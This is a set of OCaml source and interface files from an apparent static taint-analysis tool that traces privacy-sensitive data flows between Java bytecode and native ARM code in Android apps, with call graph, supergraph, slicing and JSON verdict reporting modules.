  | Def of string * string * int  (* def site: class, name, pc (-1 = params) *)
  | Native of string * string  (* native function: lib, symbol *)
  | Crossing of string  (* JNI boundary crossing label *)
  | Source of string * string  (* source call: site, "Lcls;->m" *)
  | Sink of string * string  (* sink: flow sink name, flow site *)
  | Field of string * string  (* heap summary cell: class, field *)
  | Arrays  (* the one summary cell for all array contents *)
  | Exn  (* pending-exception summary cell *)

type edge =
  | Defuse  (* intra-method reaching definition *)
  | Call  (* Java call: arg defs feed the callee *)
  | Ret  (* callee return feeds the call-site result def *)
  | Jni_down of string  (* Java->native, labelled with the AAPCS mapping *)
  | Jni_up  (* native->Java Call*Method upcall *)
  | Src  (* a privacy source defines this value *)
  | Snk  (* this value reaches a sink *)
  | Heap  (* through a field / array / exception summary cell *)
  | Load  (* System.load* hands control to a library's JNI_OnLoad *)

type t = {
  mutable next_id : int;
  ids : (node, int) Hashtbl.t;
  nodes : (int, node) Hashtbl.t;
  mutable fwd : (int * edge) list array;
  mutable rev : (int * edge) list array;
  edge_seen : (int * int * edge, unit) Hashtbl.t;
  mutable n_edges : int;
}

let create () =
  { next_id = 0;
    ids = Hashtbl.create 256;
    nodes = Hashtbl.create 256;
    fwd = Array.make 64 [];
    rev = Array.make 64 [];
    edge_seen = Hashtbl.create 256;
    n_edges = 0 }

let grow g n =
  if n >= Array.length g.fwd then begin
    let cap = max (n + 1) (2 * Array.length g.fwd) in
    let f = Array.make cap [] and r = Array.make cap [] in
    Array.blit g.fwd 0 f 0 (Array.length g.fwd);
    Array.blit g.rev 0 r 0 (Array.length g.rev);
    g.fwd <- f;
    g.rev <- r
  end

let add_node g node =
  match Hashtbl.find_opt g.ids node with
  | Some id -> id
  | None ->
    let id = g.next_id in
    g.next_id <- id + 1;
    grow g id;
    Hashtbl.replace g.ids node id;
    Hashtbl.replace g.nodes id node;
    id

let add_edge g src edge dst =
  let s = add_node g src and d = add_node g dst in
  if not (Hashtbl.mem g.edge_seen (s, d, edge)) then begin
    Hashtbl.replace g.edge_seen (s, d, edge) ();
    g.fwd.(s) <- (d, edge) :: g.fwd.(s);
    g.rev.(d) <- (s, edge) :: g.rev.(d);
    g.n_edges <- g.n_edges + 1
  end

let node_id g node = Hashtbl.find_opt g.ids node
let node_of g id = Hashtbl.find_opt g.nodes id
let succs g id = if id < Array.length g.fwd then g.fwd.(id) else []
let preds g id = if id < Array.length g.rev then g.rev.(id) else []
let node_count g = g.next_id
let edge_count g = g.n_edges

let iter_nodes g f = Hashtbl.iter (fun id node -> f id node) g.nodes

let fold_nodes g f acc =
  Hashtbl.fold (fun id node acc -> f id node acc) g.nodes acc

(* ids of every node satisfying [p] *)
let select g p =
  fold_nodes g (fun id node acc -> if p node then id :: acc else acc) []

let edge_name = function
  | Defuse -> "defuse"
  | Call -> "call"
  | Ret -> "ret"
  | Jni_down _ -> "jni_down"
  | Jni_up -> "jni_up"
  | Src -> "source"
  | Snk -> "sink"
  | Heap -> "heap"
  | Load -> "load"

let pp_node ppf = function
  | Method (c, m) -> Fmt.pf ppf "method %s->%s" c m
  | Def (c, m, pc) ->
    if pc < 0 then Fmt.pf ppf "params %s->%s" c m
    else Fmt.pf ppf "def %s->%s@%d" c m pc
  | Native (lib, sym) -> Fmt.pf ppf "native %s (%s)" sym lib
  | Crossing label -> Fmt.pf ppf "crossing %s" label
  | Source (site, name) -> Fmt.pf ppf "source %s@%s" name site
  | Sink (name, site) -> Fmt.pf ppf "sink %s@%s" name site
  | Field (c, f) -> Fmt.pf ppf "field %s.%s" c f
  | Arrays -> Fmt.pf ppf "arrays"
  | Exn -> Fmt.pf ppf "exception"

let pp ppf g =
  Fmt.pf ppf "xir: %d nodes, %d edges@." (node_count g) (edge_count g);
  iter_nodes g (fun id node ->
      List.iter
        (fun (d, e) ->
          match node_of g d with
          | Some dn ->
            Fmt.pf ppf "  %a -[%s]-> %a@." pp_node node (edge_name e) pp_node dn
          | None -> ())
        (succs g id))
