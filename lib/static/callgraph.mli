(** Interprocedural call graph over an app's class definitions.

    Nodes are [(class, method)] pairs of bytecode methods; edges come from
    [Invoke] instructions that resolve to app-defined methods.  The graph
    also indexes the cross-boundary call sites the supergraph stitches
    together: JNI (native-method) call sites, [System.load*] sites, and
    framework source/sink call sites. *)

type node = string * string

type t

val build : Ndroid_dalvik.Classes.class_def list -> t

val methods : t -> (node, Ndroid_dalvik.Classes.method_def) Hashtbl.t
(** Every app-defined method (any body kind), by (class, name). *)

val find_method : t -> node -> Ndroid_dalvik.Classes.method_def option

val callees : t -> node -> node list
(** App-internal edges out of a bytecode method. *)

val reachable : t -> node list -> node list
(** Transitive closure over app-internal edges from the given roots. *)

val native_sites : t -> (node * string) list
(** (caller, native symbol) for every call site whose callee is a
    [Native] method. *)

val load_sites : t -> node list
(** Methods containing a [System.loadLibrary]/[System.load] call. *)

val source_sites : t -> (node * Ndroid_taint.Taint.t) list
(** Call sites of catalogued privacy sources, with their taint tag. *)

val sink_sites : t -> (node * string) list
(** Call sites of catalogued Java-context sinks, with the sink name. *)

val calls_load : t -> bool
val jni_site_count : t -> int
