module B = Ndroid_dalvik.Bytecode
module Classes = Ndroid_dalvik.Classes
module Taint = Ndroid_taint.Taint
module Sources = Ndroid_android.Sources
module Sinks = Ndroid_android.Sinks

type node = string * string

type t = {
  g_methods : (node, Classes.method_def) Hashtbl.t;
  g_edges : (node, node list) Hashtbl.t;
  g_native_sites : (node * string) list;
  g_load_sites : node list;
  g_source_sites : (node * Taint.t) list;
  g_sink_sites : (node * string) list;
}

let is_load_call (mref : B.method_ref) =
  mref.B.m_class = "Ljava/lang/System;"
  && (mref.B.m_name = "loadLibrary" || mref.B.m_name = "load")

let source_tag cls name =
  List.find_map
    (fun (c, m, tag) -> if c = cls && m = name then Some tag else None)
    Sources.source_catalog

let is_sink cls name =
  List.exists (fun (c, m) -> c = cls && m = name) Sinks.sink_catalog

let build classes =
  let methods = Hashtbl.create 64 in
  List.iter
    (fun (c : Classes.class_def) ->
      List.iter
        (fun (m : Classes.method_def) ->
          Hashtbl.replace methods (m.Classes.m_class, m.Classes.m_name) m)
        c.Classes.c_methods)
    classes;
  let edges = Hashtbl.create 64 in
  let native_sites = ref [] and load_sites = ref [] in
  let source_sites = ref [] and sink_sites = ref [] in
  Hashtbl.iter
    (fun node (m : Classes.method_def) ->
      match m.Classes.m_body with
      | Classes.Native _ | Classes.Intrinsic _ -> ()
      | Classes.Bytecode (code, _) ->
        let outgoing = ref [] in
        Array.iter
          (function
            | B.Invoke (_, mref, _) -> (
              let callee = (mref.B.m_class, mref.B.m_name) in
              if is_load_call mref then load_sites := node :: !load_sites;
              (match source_tag mref.B.m_class mref.B.m_name with
               | Some tag -> source_sites := (node, tag) :: !source_sites
               | None -> ());
              if is_sink mref.B.m_class mref.B.m_name then
                sink_sites :=
                  (node, mref.B.m_class ^ "->" ^ mref.B.m_name) :: !sink_sites;
              match Hashtbl.find_opt methods callee with
              | Some { Classes.m_body = Classes.Native sym; _ } ->
                native_sites := (node, sym) :: !native_sites
              | Some _ -> outgoing := callee :: !outgoing
              | None -> ())
            | _ -> ())
          code;
        Hashtbl.replace edges node (List.sort_uniq compare !outgoing))
    methods;
  { g_methods = methods; g_edges = edges;
    g_native_sites = List.rev !native_sites;
    g_load_sites = List.sort_uniq compare !load_sites;
    g_source_sites = List.rev !source_sites;
    g_sink_sites = List.rev !sink_sites }

let methods t = t.g_methods
let find_method t node = Hashtbl.find_opt t.g_methods node

let callees t node =
  match Hashtbl.find_opt t.g_edges node with Some l -> l | None -> []

let reachable t roots =
  let seen = Hashtbl.create 64 in
  let rec go node =
    if not (Hashtbl.mem seen node) then begin
      Hashtbl.replace seen node ();
      List.iter go (callees t node)
    end
  in
  List.iter go roots;
  Hashtbl.fold (fun n () acc -> n :: acc) seen []

let native_sites t = t.g_native_sites
let load_sites t = t.g_load_sites
let source_sites t = t.g_source_sites
let sink_sites t = t.g_sink_sites
let calls_load t = t.g_load_sites <> []
let jni_site_count t = List.length t.g_native_sites
