(** The cross-language supergraph analyzer.

    Ties the three layers together (JuCify-style): the Java side
    ({!Dex_flow} over {!Callgraph}), the native side ({!Native_flow} over
    {!Native_cfg}), and the JNI boundary — native-method symbols resolved
    against the app's library symbol tables for Java→native edges,
    [Call*Method] constant-resolved method IDs for native→Java edges.
    An outer fixpoint re-analyzes entry points until every monotone
    summary (Java fields/arrays, per-library abstract memory) is stable,
    so taint stored by one JNI call and fetched by a later one is seen. *)

module Taint = Ndroid_taint.Taint
module Classes = Ndroid_dalvik.Classes
module Asm = Ndroid_arm.Asm

type input = {
  in_name : string;
  in_classes : Classes.class_def list;
  in_libs : (string * Asm.program) list;
  in_entries : (string * string) list;
      (** root methods; [[]] = every app bytecode method *)
  in_resolve : int -> string option;
      (** host-function address → name, for native call resolution *)
}

type verdict = {
  v_name : string;
  v_classification : Ndroid_corpus.Classifier.classification option;
  v_result : Ndroid_report.Verdict.t;
      (** the unified verdict: [Clean] or [Flagged] with deduplicated,
          sorted flows (the pipeline adds [Crashed]/[Timeout] around it) *)
  v_loads_library : bool;
  v_jni_sites : int;  (** static Java→native call sites *)
  v_methods : int;  (** app methods in the call graph *)
  v_native_insns : int;  (** decoded native instructions across libs *)
  v_rounds : int;  (** outer fixpoint rounds until stable *)
  v_focus : Ndroid_report.Focus.t;
      (** slice projection for [Flagged] verdicts: the methods, native
          functions and JNI crossings a focused dynamic run must
          instrument ([Focus.empty] when clean) *)
  v_xir_nodes : int;  (** cross-language IR size *)
  v_xir_edges : int;
}

val analyze :
  ?classification:Ndroid_corpus.Classifier.classification -> input -> verdict

val analyze_apk : Ndroid_corpus.Apk.t -> verdict
(** Run the analyzer over binary APK artifacts: dex entries are parsed
    with {!Ndroid_dalvik.Dexfile}, [lib/] entries with
    {!Ndroid_arm.Sofile}; classification comes from the shared
    {!Ndroid_corpus.Classifier} core. *)

val flows : verdict -> Flow.t list
(** The flows of a [Flagged] result, [] otherwise. *)

val flagged : verdict -> bool
(** Any source→sink flow found. *)

val flagged_at : verdict -> string -> bool
(** Does any flow's sink name contain the given substring?  (Matches the
    dynamic harness's [expected_sink] convention; the empty string
    matches any flow.) *)
