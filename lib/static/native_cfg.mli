(** Control-flow recovery over a native library image.

    A {!Ndroid_arm.Asm.program} (as deserialized from a {!Ndroid_arm.Sofile})
    is swept with the linear disassembler ({!Ndroid_arm.Disasm}) in the
    program's own mode; the decoded stream is indexed by address, and basic
    blocks are recovered from exported symbols and branch targets.  The
    byte image stays accessible so the abstract interpreter can read
    NUL-terminated strings ([FindClass]/[GetMethodID] operands) out of the
    library's data section. *)

type t

val of_program : name:string -> Ndroid_arm.Asm.program -> t

val name : t -> string
val mode : t -> Ndroid_arm.Cpu.mode
val base : t -> int
val size : t -> int
val insn_count : t -> int

val insn_at : t -> int -> (Ndroid_arm.Insn.t * int) option
(** Decoded instruction and its byte size at an address; [None] for data
    or out-of-image addresses. *)

val contains : t -> int -> bool
(** Is the (thumb-bit-cleared) address inside the image? *)

val symbols : t -> (string * int) list
val symbol_addr : t -> string -> int option
val symbol_at : t -> int -> string option
(** Exact symbol at an address (thumb bit ignored). *)

val enclosing_symbol : t -> int -> string option
(** Nearest symbol at or before the address — the "current function" for
    flow reports. *)

val cstring_at : t -> int -> string option
(** NUL-terminated string read from the image, for resolving
    [FindClass]/[GetStaticMethodID] arguments constant-propagated to a
    data address. *)

val branch_target : t -> addr:int -> size:int -> offset:int -> int
(** Resolve a [B]-family offset (in instruction units relative to the
    mode's read-PC) to an absolute address. *)

val basic_blocks : t -> (int * int * int list) list
(** Recovered blocks as [(start, end_exclusive, successor starts)]; block
    leaders are exported symbols and branch targets. *)
