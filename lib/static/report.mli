(** Rendering static verdicts, human-readable and as canonical JSON.

    The ad-hoc JSON printer this module used to carry is gone: everything
    serializes through {!Ndroid_report.Verdict}, the same codec the dynamic
    path and the batch pipeline use, so `ndroid analyze --json` output is
    deterministic and schema-identical across analyses. *)

val pp_verdict : Format.formatter -> Analyzer.verdict -> unit

val to_report : Analyzer.verdict -> Ndroid_report.Verdict.report
(** The unified per-app report (analysis = ["static"]), carrying the
    analyzer's counters as deterministic metadata. *)

val verdict_json : Analyzer.verdict -> string
(** One verdict as a canonical JSON object. *)

val verdicts_json : Analyzer.verdict list -> string
(** A canonical JSON array of verdicts, the [ndroid analyze --json]
    payload. *)
