(** Rendering static verdicts, human-readable and as JSON. *)

val pp_verdict : Format.formatter -> Analyzer.verdict -> unit

val verdict_json : Analyzer.verdict -> string
(** One verdict as a JSON object. *)

val verdicts_json : Analyzer.verdict list -> string
(** A JSON array of verdicts, the [ndroid lint --json] payload. *)
