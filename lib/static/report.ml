module Taint = Ndroid_taint.Taint
module Classifier = Ndroid_corpus.Classifier

let pp_verdict ppf (v : Analyzer.verdict) =
  Format.fprintf ppf "%s: %s@." v.Analyzer.v_name
    (if v.Analyzer.v_flagged then "FLAGGED" else "clean");
  (match v.Analyzer.v_classification with
   | Some c ->
     Format.fprintf ppf "  classification:   %s@." (Classifier.classification_name c)
   | None -> ());
  Format.fprintf ppf "  loads native lib: %b@." v.Analyzer.v_loads_library;
  Format.fprintf ppf "  JNI call sites:   %d@." v.Analyzer.v_jni_sites;
  Format.fprintf ppf "  app methods:      %d@." v.Analyzer.v_methods;
  Format.fprintf ppf "  native insns:     %d@." v.Analyzer.v_native_insns;
  Format.fprintf ppf "  fixpoint rounds:  %d@." v.Analyzer.v_rounds;
  List.iter
    (fun f -> Format.fprintf ppf "  flow: %a@." Flow.pp f)
    v.Analyzer.v_flows

let json_escape s =
  let buf = Buffer.create (String.length s + 8) in
  String.iter
    (fun c ->
      match c with
      | '"' -> Buffer.add_string buf "\\\""
      | '\\' -> Buffer.add_string buf "\\\\"
      | '\n' -> Buffer.add_string buf "\\n"
      | c when Char.code c < 32 ->
        Buffer.add_string buf (Printf.sprintf "\\u%04x" (Char.code c))
      | c -> Buffer.add_char buf c)
    s;
  Buffer.contents buf

let flow_json (f : Flow.t) =
  Printf.sprintf
    {|{"taint":"0x%x","sink":"%s","context":"%s","site":"%s"}|}
    (Taint.to_bits f.Flow.f_taint)
    (json_escape f.Flow.f_sink)
    (Flow.context_name f.Flow.f_context)
    (json_escape f.Flow.f_site)

let verdict_json (v : Analyzer.verdict) =
  let cls =
    match v.Analyzer.v_classification with
    | Some c -> Printf.sprintf {|"%s"|} (json_escape (Classifier.classification_name c))
    | None -> "null"
  in
  Printf.sprintf
    {|{"app":"%s","flagged":%b,"classification":%s,"loads_library":%b,"jni_sites":%d,"methods":%d,"native_insns":%d,"rounds":%d,"flows":[%s]}|}
    (json_escape v.Analyzer.v_name)
    v.Analyzer.v_flagged cls v.Analyzer.v_loads_library v.Analyzer.v_jni_sites
    v.Analyzer.v_methods v.Analyzer.v_native_insns v.Analyzer.v_rounds
    (String.concat "," (List.map flow_json v.Analyzer.v_flows))

let verdicts_json vs =
  "[" ^ String.concat ",\n " (List.map verdict_json vs) ^ "]"
