module Classifier = Ndroid_corpus.Classifier
module Json = Ndroid_report.Json
module Verdict = Ndroid_report.Verdict

let pp_verdict ppf (v : Analyzer.verdict) =
  Format.fprintf ppf "%s: %s@." v.Analyzer.v_name
    (if Analyzer.flagged v then "FLAGGED" else "clean");
  (match v.Analyzer.v_classification with
   | Some c ->
     Format.fprintf ppf "  classification:   %s@." (Classifier.classification_name c)
   | None -> ());
  Format.fprintf ppf "  loads native lib: %b@." v.Analyzer.v_loads_library;
  Format.fprintf ppf "  JNI call sites:   %d@." v.Analyzer.v_jni_sites;
  Format.fprintf ppf "  app methods:      %d@." v.Analyzer.v_methods;
  Format.fprintf ppf "  native insns:     %d@." v.Analyzer.v_native_insns;
  Format.fprintf ppf "  fixpoint rounds:  %d@." v.Analyzer.v_rounds;
  Format.fprintf ppf "  xir graph:        %d nodes / %d edges@."
    v.Analyzer.v_xir_nodes v.Analyzer.v_xir_edges;
  if not (Ndroid_report.Focus.is_empty v.Analyzer.v_focus) then
    Format.fprintf ppf "  focus set:        %a@." Ndroid_report.Focus.pp
      v.Analyzer.v_focus;
  List.iter
    (fun f -> Format.fprintf ppf "  flow: %a@." Flow.pp f)
    (Analyzer.flows v)

(* JSON goes through the one canonical codec in {!Ndroid_report}; this
   module only maps the analyzer's counters into report metadata. *)

let to_report (v : Analyzer.verdict) =
  { Verdict.r_app = v.Analyzer.v_name;
    r_analysis = "static";
    r_verdict = v.Analyzer.v_result;
    r_meta =
      [ ("classification",
         (match v.Analyzer.v_classification with
          | Some c -> Json.Str (Classifier.classification_name c)
          | None -> Json.Null));
        ("loads_library", Json.Bool v.Analyzer.v_loads_library);
        ("jni_sites", Json.Int v.Analyzer.v_jni_sites);
        ("methods", Json.Int v.Analyzer.v_methods);
        ("native_insns", Json.Int v.Analyzer.v_native_insns);
        ("rounds", Json.Int v.Analyzer.v_rounds);
        ("xir_nodes", Json.Int v.Analyzer.v_xir_nodes);
        ("xir_edges", Json.Int v.Analyzer.v_xir_edges);
        ("focus", Ndroid_report.Focus.to_json v.Analyzer.v_focus) ] }

let verdict_json v = Json.to_string (Verdict.report_to_json (to_report v))

let verdicts_json vs =
  Json.to_string (Verdict.reports_to_json (List.map to_report vs))
