(* The flow type is shared with the dynamic path: both analyses report
   {!Ndroid_report.Flow} values, so one verdict codec serves the whole
   toolchain.  Re-exported here so the static internals keep their
   short [Flow.t] spelling. *)
include Ndroid_report.Flow
