module Taint = Ndroid_taint.Taint

type context = Java_ctx | Native_ctx

type t = {
  f_taint : Taint.t;
  f_sink : string;
  f_context : context;
  f_site : string;
}

let context_name = function Java_ctx -> "java" | Native_ctx -> "native"

let pp ppf f =
  Format.fprintf ppf "%a -> %s [%s context, at %s]" Taint.pp f.f_taint f.f_sink
    (context_name f.f_context) f.f_site

let to_string f = Format.asprintf "%a" pp f

let key f =
  (f.f_sink, context_name f.f_context, f.f_site, Taint.to_bits f.f_taint)
