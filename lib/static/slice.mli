(** Backward slicing over the cross-language IR.

    The slice is forward reachability from sources intersected with
    backward reachability from sinks; {!focus} projects it onto the exact
    Dalvik methods, native exported functions and JNI crossings the
    dynamic tracker must instrument.  {!annotate} attaches each flow's
    source→…→sink hop chain as static provenance. *)

type t

val compute : Xir.t -> t

val in_slice : t -> int -> bool
(** Is the node on some source→sink path? *)

val focus : t -> Ndroid_report.Focus.t
(** The slice's projection: methods, natives and crossings on a feasible
    source→sink path. *)

val full : Xir.t -> Ndroid_report.Focus.t
(** Every method/native/crossing in the graph — the sound fallback when a
    flagged flow has no graph path (e.g. a purely control-dependent
    flow). *)

val hops_for : t -> Ndroid_report.Flow.t -> Ndroid_report.Flow.hop list option
(** Shortest source→sink hop chain for the flow's sink node, if the graph
    contains one. *)

val annotate :
  t -> Ndroid_report.Flow.t list -> Ndroid_report.Flow.t list * bool
(** Attach hop chains to every flow lacking them.  The boolean is [true]
    iff every flow found a path — when [false] the caller should fall back
    to {!full} focus. *)
