module B = Ndroid_dalvik.Bytecode
module Classes = Ndroid_dalvik.Classes
module Taint = Ndroid_taint.Taint
module T = Taint
module Sources = Ndroid_android.Sources
module Sinks = Ndroid_android.Sinks

type ctx = {
  dx_cg : Callgraph.t;
  dx_fields : (string * string, T.t) Hashtbl.t;
  mutable dx_arrays : T.t;  (* one summary cell for all array contents *)
  mutable dx_ex : T.t;  (* pending-exception taint *)
  mutable dx_changed : bool;
  mutable dx_loads : bool;
  mutable dx_native_visits : int;
  dx_record : Flow.t -> unit;
  dx_native_call : Classes.method_def -> T.t list -> ctrl:T.t -> T.t;
  dx_memo : (string * int list, T.t) Hashtbl.t;
  mutable dx_stack : (string * string) list;
}

let make ~cg ~record ~native_call =
  { dx_cg = cg; dx_fields = Hashtbl.create 32; dx_arrays = T.clear;
    dx_ex = T.clear; dx_changed = false; dx_loads = false;
    dx_native_visits = 0; dx_record = record; dx_native_call = native_call;
    dx_memo = Hashtbl.create 64; dx_stack = [] }

let reset_memo ctx = Hashtbl.reset ctx.dx_memo
let changed ctx = ctx.dx_changed
let clear_changed ctx = ctx.dx_changed <- false
let loads_library ctx = ctx.dx_loads
let native_site_visits ctx = ctx.dx_native_visits

let unions = List.fold_left T.union T.clear

let short_sink_name cls m =
  let s = cls in
  let s =
    if String.length s >= 2 && s.[0] = 'L' && s.[String.length s - 1] = ';'
    then String.sub s 1 (String.length s - 2)
    else s
  in
  let s =
    match String.rindex_opt s '/' with
    | Some i -> String.sub s (i + 1) (String.length s - i - 1)
    | None -> s
  in
  s ^ "." ^ m

let source_tag cls m =
  List.find_map
    (fun (c, n, tag) -> if c = cls && n = m then Some tag else None)
    Sources.source_catalog

let is_sink cls m = List.exists (fun (c, n) -> c = cls && n = m) Sinks.sink_catalog

let is_load_call cls m =
  cls = "Ljava/lang/System;" && (m = "loadLibrary" || m = "load")

let grow_field ctx key t =
  let cur =
    match Hashtbl.find_opt ctx.dx_fields key with Some v -> v | None -> T.clear
  in
  if not (T.subset t cur) then begin
    Hashtbl.replace ctx.dx_fields key (T.union cur t);
    ctx.dx_changed <- true
  end

let field_taint ctx key =
  match Hashtbl.find_opt ctx.dx_fields key with Some v -> v | None -> T.clear

let grow_arrays ctx t =
  if not (T.subset t ctx.dx_arrays) then begin
    ctx.dx_arrays <- T.union ctx.dx_arrays t;
    ctx.dx_changed <- true
  end

let grow_ex ctx t =
  if not (T.subset t ctx.dx_ex) then begin
    ctx.dx_ex <- T.union ctx.dx_ex t;
    ctx.dx_changed <- true
  end

let rec analyze_method ctx (def : Classes.method_def) args =
  match def.Classes.m_body with
  | Classes.Native _ ->
    ctx.dx_native_visits <- ctx.dx_native_visits + 1;
    ctx.dx_native_call def args ~ctrl:T.clear
  | Classes.Intrinsic _ -> unions args
  | Classes.Bytecode (code, handlers) ->
    let node = (def.Classes.m_class, def.Classes.m_name) in
    if List.mem node ctx.dx_stack then unions args
    else begin
      let key = (Classes.qualified_name def, List.map T.to_bits args) in
      match Hashtbl.find_opt ctx.dx_memo key with
      | Some r -> r
      | None ->
        ctx.dx_stack <- node :: ctx.dx_stack;
        let r = run_bytecode ctx def code handlers args in
        ctx.dx_stack <- List.tl ctx.dx_stack;
        Hashtbl.replace ctx.dx_memo key r;
        r
    end

and run_bytecode ctx (def : Classes.method_def) code handlers args =
  let n = Array.length code in
  if n = 0 then T.clear
  else begin
    let cfg = Dex_cfg.of_code ~handlers code in
    let max_reg =
      Array.fold_left
        (fun acc insn ->
          List.fold_left max acc
            (List.filter (fun r -> r >= 0) (Dex_cfg.defs insn @ Dex_cfg.uses insn)))
        (-1) code
    in
    let nregs = max (max def.Classes.m_registers (List.length args)) (max_reg + 1) in
    let res_slot = nregs and ctrl_slot = nregs + 1 in
    let nslots = nregs + 2 in
    let states : T.t array option array = Array.make n None in
    let work = Queue.create () in
    let ret = ref T.clear in
    let init = Array.make nslots T.clear in
    (* parameters land in the highest registers, as in the interpreter *)
    let first_in = nregs - List.length args in
    List.iteri (fun i t -> init.(first_in + i) <- t) args;
    states.(0) <- Some init;
    Queue.add 0 work;
    let push pc st =
      if pc >= 0 && pc < n then
        match states.(pc) with
        | None ->
          states.(pc) <- Some st;
          Queue.add pc work
        | Some old ->
          let changed = ref false in
          let joined =
            Array.init nslots (fun i ->
                let u = T.union old.(i) st.(i) in
                if not (T.equal u old.(i)) then changed := true;
                u)
          in
          if !changed then begin
            states.(pc) <- Some joined;
            Queue.add pc work
          end
    in
    let fuel = ref (n * 64 * nslots) in
    while (not (Queue.is_empty work)) && !fuel > 0 do
      decr fuel;
      let pc = Queue.pop work in
      match states.(pc) with
      | None -> ()
      | Some st ->
        let t r = if r >= 0 && r < nregs then st.(r) else T.clear in
        let ctrl = st.(ctrl_slot) in
        let st' = Array.copy st in
        let set r v = if r >= 0 && r < nregs then st'.(r) <- v in
        let set_result v = st'.(res_slot) <- v in
        (match code.(pc) with
         | B.Nop | B.Goto _ -> ()
         | B.Const (r, _) | B.Const_string (r, _) | B.New_instance (r, _) ->
           set r ctrl
         | B.Move (d, s) -> set d (T.union (t s) ctrl)
         | B.Move_result r -> set r (T.union st.(res_slot) ctrl)
         | B.Move_exception r -> set r (T.union ctx.dx_ex ctrl)
         | B.Return_void -> ()
         | B.Return r -> ret := unions [ !ret; t r; ctrl ]
         | B.Binop (_, d, a, b) | B.Binop_wide (_, d, a, b)
         | B.Binop_float (_, d, a, b) | B.Binop_double (_, d, a, b)
         | B.Cmp_long (d, a, b) -> set d (unions [ t a; t b; ctrl ])
         | B.Binop_lit (_, d, s, _) | B.Unop (_, d, s) ->
           set d (T.union (t s) ctrl)
         | B.If (_, a, b, _) ->
           st'.(ctrl_slot) <- unions [ ctrl; t a; t b ]
         | B.Ifz (_, a, _) -> st'.(ctrl_slot) <- T.union ctrl (t a)
         | B.Packed_switch (s, _, _) | B.Sparse_switch (s, _) ->
           st'.(ctrl_slot) <- T.union ctrl (t s)
         | B.New_array (d, sz, _) -> set d (T.union (t sz) ctrl)
         | B.Array_length (d, a) -> set d (T.union (t a) ctrl)
         | B.Aget (d, arr, idx) ->
           set d (unions [ ctx.dx_arrays; t arr; t idx; ctrl ])
         | B.Aput (v, arr, idx) ->
           grow_arrays ctx (unions [ t v; t arr; t idx; ctrl ])
         | B.Iget (d, o, f) ->
           set d (unions [ field_taint ctx (f.B.f_class, f.B.f_name); t o; ctrl ])
         | B.Iput (v, _, f) ->
           grow_field ctx (f.B.f_class, f.B.f_name) (T.union (t v) ctrl)
         | B.Sget (d, f) ->
           set d (T.union (field_taint ctx (f.B.f_class, f.B.f_name)) ctrl)
         | B.Sput (v, f) ->
           grow_field ctx (f.B.f_class, f.B.f_name) (T.union (t v) ctrl)
         | B.Check_cast _ -> ()
         | B.Instance_of (d, s, _) -> set d (T.union (t s) ctrl)
         | B.Throw r -> grow_ex ctx (T.union (t r) ctrl)
         | B.Invoke (_, mref, regs) -> (
           let cls = mref.B.m_class and m = mref.B.m_name in
           let argts = List.map (fun r -> T.union (t r) ctrl) regs in
           let au = unions argts in
           match source_tag cls m with
           | Some tag -> set_result (T.union tag ctrl)
           | None ->
             if is_sink cls m then begin
               let leak = T.union au ctrl in
               if T.is_tainted leak then
                 ctx.dx_record
                   { Flow.f_taint = leak; f_sink = short_sink_name cls m;
                     f_context = Flow.Java_ctx;
                     f_site = Classes.qualified_name def; f_hops = [] };
               set_result ctrl
             end
             else if is_load_call cls m then begin
               ctx.dx_loads <- true;
               set_result ctrl
             end
             else
               match Callgraph.find_method ctx.dx_cg (cls, m) with
               | Some callee -> (
                 match callee.Classes.m_body with
                 | Classes.Native _ ->
                   ctx.dx_native_visits <- ctx.dx_native_visits + 1;
                   set_result
                     (T.union (ctx.dx_native_call callee argts ~ctrl) ctrl)
                 | Classes.Bytecode _ ->
                   set_result (T.union (analyze_method ctx callee argts) ctrl)
                 | Classes.Intrinsic _ -> set_result (T.union au ctrl))
               | None ->
                 (* unknown framework call: result summarizes arguments *)
                 set_result (T.union au ctrl)));
        List.iter (fun s -> push s st') (Dex_cfg.succs cfg pc);
        List.iter (fun h -> push h st') (Dex_cfg.handler_succs cfg pc)
    done;
    !ret
  end
