module Taint = Ndroid_taint.Taint
module T = Taint
module Insn = Ndroid_arm.Insn
module Syscalls = Ndroid_android.Syscalls
module Jni_names = Ndroid_jni.Jni_names

type lib = {
  nf_name : string;
  nf_cfg : Native_cfg.t;
  mutable nf_mem : T.t;
  mutable nf_changed : bool;
}

let make_lib ~name prog =
  { nf_name = name; nf_cfg = Native_cfg.of_program ~name prog;
    nf_mem = T.clear; nf_changed = false }

type env = {
  e_resolve : int -> string option;
  e_upcall : string -> string -> T.t list -> T.t;
  e_record : Flow.t -> unit;
}

(* block-local constant propagation, just strong enough to resolve the
   assembler's load-immediate chains and FindClass/GetMethodID operands *)
type absval = Unknown | Const of int | Cls of string | Mid of string * string

type state = {
  mutable st_regs : T.t array;  (* 16 core registers *)
  mutable st_consts : absval array;
  mutable st_vfp : T.t;  (* one summary cell for the VFP bank *)
  mutable st_ctrl : T.t;  (* control (implicit-flow) taint *)
}

type actx = {
  a_env : env;
  a_lib : lib;
  a_stack : T.t;  (* taint of stack-passed JNI parameters *)
  mutable a_fuel : int;
  a_in_progress : (int, unit) Hashtbl.t;
}

let mask32 = 0xFFFFFFFF
let clearb a = a land lnot 1

let copy_state st =
  { st_regs = Array.copy st.st_regs; st_consts = Array.copy st.st_consts;
    st_vfp = st.st_vfp; st_ctrl = st.st_ctrl }

(* join [b] into a copy of [a]; also reports whether the join grew [a] *)
let join a b =
  let changed = ref false in
  let regs =
    Array.init 16 (fun i ->
        let u = T.union a.st_regs.(i) b.st_regs.(i) in
        if not (T.equal u a.st_regs.(i)) then changed := true;
        u)
  in
  let consts =
    Array.init 16 (fun i ->
        if a.st_consts.(i) = b.st_consts.(i) then a.st_consts.(i)
        else begin
          (if a.st_consts.(i) <> Unknown then changed := true);
          Unknown
        end)
  in
  let vfp = T.union a.st_vfp b.st_vfp in
  if not (T.equal vfp a.st_vfp) then changed := true;
  let ctrl = T.union a.st_ctrl b.st_ctrl in
  if not (T.equal ctrl a.st_ctrl) then changed := true;
  ({ st_regs = regs; st_consts = consts; st_vfp = vfp; st_ctrl = ctrl }, !changed)

let unions = List.fold_left T.union T.clear

let set_mem actx t =
  if not (T.subset t actx.a_lib.nf_mem) then begin
    actx.a_lib.nf_mem <- T.union actx.a_lib.nf_mem t;
    actx.a_lib.nf_changed <- true
  end

let op2_taint st = function
  | Insn.Imm _ -> T.clear
  | Insn.Reg r | Insn.Reg_shift_imm (r, _, _) -> st.st_regs.(r)
  | Insn.Reg_shift_reg (r, _, rs) -> T.union st.st_regs.(r) st.st_regs.(rs)

let op2_const st = function
  | Insn.Imm i -> Const i
